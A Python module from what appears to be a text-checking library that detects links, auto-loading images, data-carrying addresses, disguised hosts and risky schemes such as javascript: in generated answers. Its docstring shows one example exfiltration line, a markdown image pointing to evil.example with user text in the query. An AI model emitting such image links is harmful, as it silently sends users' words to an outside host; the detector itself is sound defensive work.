"""Where do links and images lead, and do they carry anything away.

A picture in an answer is loaded by whoever shows it, without a click: `![](http://evil.example/?q=what-you-said)` tells
the owner of that host what stands in the address. So pictures, and what is loaded like them, are looked at apart.
Addresses are read as browsers read them.
"""

import re
from collections.abc import Callable, Sequence
from functools import lru_cache
from typing import Final

from .._errors import CheckOptionsError
from ..patterns import Judge, Pattern, PatternCheck
from ._addresses import Address, carried, disguise, is_allowed, read_address
from ._versions import version_of

KINDS: Final = ("link", "image", "exfiltration", "scheme", "disguise")
SCHEMES: Final = ("http", "https", "mailto", "tel")

_END: Final = r"\s<>\"'`)\]"
_REST: Final = rf"[^{_END}]{{1,400}}"
_LOADING_NAMES: Final = "src|srcset|poster|background|data|xlink:href|lowsrc|dynsrc|icon"
_ANY: Final = (
    rf"(?i)(?:\b[a-z][a-z0-9+.-]{{1,20}}:[\\/]{{2}}|\bhttps?:[\\/]?|\bwww[0-9]?\.|(?:\]\(|=)[\s<\"']{{0,4}}[\\/]{{2}})"
    rf"{_REST}"
)
_LOADING: Final = (
    rf"(?i)(?:!\[[^\]\n]{{0,200}}\]\([\s<]{{0,4}}|\b(?:{_LOADING_NAMES})\s{{0,3}}=[\s\"']{{0,4}}"
    rf"|\burl\([\s\"']{{0,4}}|(?:\[[^\]\n]{{1,100}})?\]:[ \t<]{{0,4}})"
    rf"(?:[a-z][a-z0-9+.-]{{1,20}}:|[\\/]{{2}}){_REST}(?:[ \t]{{1,3}}[\"'(][^)\n]{{0,60}})?\)?"
)
_BARE_SCHEME: Final = (
    rf"(?i)\b(?:javascript|vbscript|livescript|data|file|blob|view-source|jar|intent|filesystem|about|chrome):{_REST}"
)
_TARGET: Final = rf"(?i)(?:\]\(|=)[\s<\"']{{0,4}}[a-z][a-z0-9+.-]{{1,20}}:{_REST}"

_BEFORE_ADDRESS: Final = re.compile(rf"(?is)\A(?:!?\[[^\]]*\]\(|\]\(|\]:|(?:{_LOADING_NAMES})\s*=|=|url\()[\s<\"']*")
_BEFORE_LOADING: Final = re.compile(
    rf"(?is)(?:!\[[^\]]*\]\([\s<]*|\b(?:{_LOADING_NAMES})\s*=[\s\"']*|\burl\([\s\"']*|\]:[\s<]*)\Z"
)
_AFTER_ADDRESS: Final = re.compile(rf"[{_END}]")
_AROUND: Final = "<\"'" + "".join(filter(str.isspace, map(chr, range(0x3001))))
_OPENING, _LOADED = ("](", "url(", "]:"), tuple(_LOADING_NAMES.split("|"))
_Loads = Callable[[], bool]
"""Says whether an address is loaded without a click; few rules ask."""
_DATA: Final = re.compile(r"data:(?:[a-z]+/|[;,])", re.IGNORECASE)
_EMPTY_NAMES: Final = frozenset({"about", "blob"})
_FOREIGN: Final = 1.0


def links(
    kinds: Sequence[str] = (), hosts: Sequence[str] | None = None, schemes: Sequence[str] = SCHEMES
) -> PatternCheck:
    """Looks for addresses; `link` and `image` are those that lead to other hosts than `hosts`, and need these.

    A host is written `example.org`, or `*.example.org` for all in it. Raises CheckOptionsError.
    """
    wanted = tuple(kinds) or tuple(kind for kind in KINDS if hosts is not None or kind not in {"link", "image"})
    if hosts is None and not {"link", "image"}.isdisjoint(wanted):
        what = "`hosts` is missing: every link would be found"
        raise CheckOptionsError("links", what, 'write `options: {hosts: [example.org, "*.example.org"]}`', "options")
    known = frozenset(_host(one) for one in hosts or ())
    allowed = frozenset(one.lower().rstrip(":") for one in schemes)
    patterns = [pattern for pattern in _patterns(known, allowed) if pattern.kind in wanted]
    check = PatternCheck("links", patterns)
    check.version = version_of(1, check.version, sorted(known), sorted(allowed))
    return check


def _patterns(hosts: frozenset[str], schemes: frozenset[str]) -> list[Pattern]:
    def is_known(address: Address) -> bool:
        return is_allowed(address.host, hosts)

    def foreign(address: Address, _loads: _Loads) -> float:
        return _FOREIGN if address.host and not is_known(address) else 0.0

    def carrying(address: Address, loads: _Loads) -> float:
        return carried(address, loads=loads()) if address.host and not is_known(address) else 0.0

    def disguised(address: Address, _loads: _Loads) -> float:
        sure = disguise(address)
        return 0.0 if not sure or (not address.user and is_known(address)) else sure

    def other_scheme(address: Address, _loads: _Loads) -> float:
        return 0.8 if address.scheme and address.scheme not in schemes else 0.0

    return [
        Pattern("link", _ANY, judge=_judge(foreign), cut=_without_full_stop),
        Pattern("image", _LOADING, judge=_judge(foreign)),
        Pattern("exfiltration", _ANY, judge=_judge(carrying), cut=_without_full_stop),
        Pattern("disguise", _ANY, judge=_judge(disguised), cut=_without_full_stop),
        Pattern("scheme", _ANY, judge=_judge(other_scheme), cut=_without_full_stop),
        Pattern("scheme", _TARGET, judge=_judge(other_scheme)),
        Pattern("scheme", _BARE_SCHEME, judge=_bare(schemes)),
    ]


def _judge(ask: Callable[[Address, _Loads], float]) -> Judge:
    """Asks about the address in a match, and whether it is loaded without a click."""

    def judge(text: str, before: str, _after: str) -> float:
        address, lead = _read(text)
        return ask(address, lambda: _is_loaded(before + lead))

    return judge


@lru_cache(maxsize=8)
def _read(text: str) -> tuple[Address, str]:
    """The address in a match, and what of the match stands in front of it. Several patterns ask about the same one."""
    lead = _BEFORE_ADDRESS.match(text)
    rest = text[lead.end() :] if lead else text
    end = _AFTER_ADDRESS.search(rest)
    return read_address(rest[: end.start()] if end else rest), lead[0] if lead else ""


def _is_loaded(before: str) -> bool:
    """Whether an address behind this is loaded without a click."""
    low = before.rstrip(_AROUND).lower()
    opens = low.endswith(_OPENING) or (low.endswith("=") and low[:-1].rstrip().endswith(_LOADED))
    return opens and _BEFORE_LOADING.search(before) is not None


def _bare(schemes: frozenset[str]) -> Judge:
    def judge(text: str, _before: str, _after: str) -> float:
        scheme = text.partition(":")[0].lower()
        if scheme in schemes or (scheme == "data" and not _DATA.match(text)) or scheme in _EMPTY_NAMES:
            return 0.0
        return 0.9 if "script" in scheme else 0.7

    return judge


def _without_full_stop(text: str) -> int:
    """Where an address ends: signs of the sentence around it are no part of it."""
    return len(text.rstrip(".,;:!?*…"))


def _host(text: str) -> str:
    plain = text.strip().lower().rstrip(".")
    if not plain or any(sign in plain for sign in "/:@ ?#"):
        raise CheckOptionsError(
            "links", f"{text[:60]!r} is no name of a host", "write names such as example.org or *.example.org", "hosts"
        )
    return plain
